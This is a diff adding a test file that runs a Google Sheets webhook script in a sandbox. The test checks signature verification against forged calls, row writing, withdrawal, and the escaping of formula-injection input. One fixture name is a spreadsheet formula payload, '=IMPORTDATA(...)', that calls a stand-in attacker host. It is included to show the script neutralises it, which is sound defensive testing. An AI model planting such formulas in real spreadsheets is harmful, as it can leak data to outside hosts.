@@ -1,0 +1,117 @@
+/** The script of a sheet (deploy/sheet.gs) takes the calls of the real webhook, and no others. */
+import { createHmac } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { createContext, runInContext } from 'node:vm';
+import { afterEach, expect, test, vi } from 'vitest';
+import { said, testConfig, testLog, testStore } from '../store/testing/fixtures.ts';
+import { startOutbox } from './outbox.ts';
+import { stopAll, stopLater } from './testing/fixtures.ts';
+
+const SECRET = 'sixteen characters or more';
+afterEach(stopAll);
+
+interface Event {
+  readonly parameter: Readonly<Record<string, string>>;
+  readonly postData: { readonly contents: string };
+}
+
+/** What Google's script engine gives to the script, over rows in memory. */
+const scriptWith = (rows: string[][]) => {
+  const sheet = {
+    getLastRow: () => rows.length,
+    appendRow: (row: string[]) => rows.push([...row]),
+    getDataRange: () => ({ getValues: () => rows }),
+    getRange: (from: number) => ({ setValues: ([row = []]: string[][]) => void rows.splice(from - 1, 1, [...row]) }),
+  };
+  const context = createContext({
+    PropertiesService: { getScriptProperties: () => ({ getProperty: () => SECRET }) },
+    Utilities: {
+      Charset: { UTF_8: 'utf8' },
+      computeHmacSha256Signature: (text: string, key: string) => createHmac('sha256', key).update(text).digest(),
+      base64Encode: (bytes: Buffer) => bytes.toString('base64'),
+    },
+    LockService: { getScriptLock: () => ({ waitLock: () => undefined, releaseLock: () => undefined }) },
+    HtmlService: { createHtmlOutput: (text: string) => text },
+    SpreadsheetApp: { getActiveSpreadsheet: () => ({ getSheets: () => [sheet] }) },
+  });
+  const file = join(import.meta.dirname, '..', '..', '..', 'deploy', 'sheet.gs');
+  runInContext(readFileSync(file, 'utf8'), context);
+  return (event: Event): string => {
+    context.event = event;
+    return runInContext('doPost(event)', context) as string;
+  };
+};
+
+const startSheet = async (status: number) => {
+  const rows: string[][] = [];
+  const doPost = scriptWith(rows);
+  const events: Event[] = [];
+  const server = createServer((request, response) => {
+    let contents = '';
+    request.on('data', (piece: Buffer) => (contents += piece.toString()));
+    request.on('end', () => {
+      const parameter = Object.fromEntries(new URL(request.url ?? '', 'http://sheet').searchParams);
+      const event = { parameter, postData: { contents } };
+      events.push(event);
+      response.writeHead(status, { location: 'http://127.0.0.1:9/' }).end(doPost(event));
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  stopLater({
+    stop: async () => {
+      server.closeAllConnections();
+      server.close();
+    },
+  });
+  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/macros/s/1/exec?sheet=1`;
+  return { rows, doPost, events, url };
+};
+
+const eventually = (check: () => unknown): Promise<unknown> => vi.waitFor(check, { timeout: 8000, interval: 20 });
+
+test.each([200, 302])(
+  'a sheet that answers %i gets a row for each enquiry, and loses it when it is withdrawn',
+  async (status) => {
+    const { rows, doPost, events, url } = await startSheet(status);
+    const config = testConfig({ WEBHOOK_URL: url, WEBHOOK_SECRET: SECRET, WEBHOOK_SIGNATURE: 'address' });
+    const store = await testStore(config);
+    stopLater(startOutbox({ store, config, log: testLog(), pollEvery: 20 }));
+    const submitted = await store.submit(said({ name: '=IMPORTDATA("https://evil.example")', message: 'வணக்கம்' }));
+    const receipt = submitted.result === 'key-reused' ? null : submitted.receipt;
+    await eventually(() => expect(rows).toHaveLength(2));
+    expect(rows[1]?.slice(1)).toEqual([
+      receipt?.reference,
+      expect.stringMatching(/^\d{4}-/),
+      'GST Registration',
+      '\'=IMPORTDATA("https://evil.example")',
+      "'+91 98765 43210",
+      'meena@example.org',
+      'வணக்கம்',
+      '',
+    ]);
+    const [event] = events;
+    if (!event) throw new Error('no call was made');
+    expect(event.parameter.sheet).toBe('1');
+    expect(doPost(event)).toBe('ok');
+    const { parameter, postData } = event;
+    const forged: Event[] = [
+      { parameter, postData: { contents: postData.contents.replace('Registration', 'Refunds') } },
+      { parameter: { ...parameter, 'webhook-id': 'another' }, postData },
+      { parameter: { ...parameter, 'webhook-timestamp': '1' }, postData },
+      { parameter: { ...parameter, 'webhook-signature': '' }, postData },
+      { parameter: {}, postData },
+    ];
+    for (const each of forged) expect(doPost(each)).toBe('refused');
+    expect(rows).toHaveLength(2);
+    await eventually(async () =>
+      expect(await store.db.selectFrom('outbox').select('state').execute()).toEqual([{ state: 'sent' }]),
+    );
+    expect((await store.enquiries.act(receipt?.token ?? '', '3210', 'withdraw', Date.now())).result).toBe('ok');
+    await eventually(() => expect(rows[1]?.slice(3)).toEqual(['', 'WITHDRAWN', '', '', '', '']));
+    expect(rows).toHaveLength(2);
+    expect(events[1]?.postData.contents).not.toMatch(/meena|43210|IMPORT/i);
+  },
+);
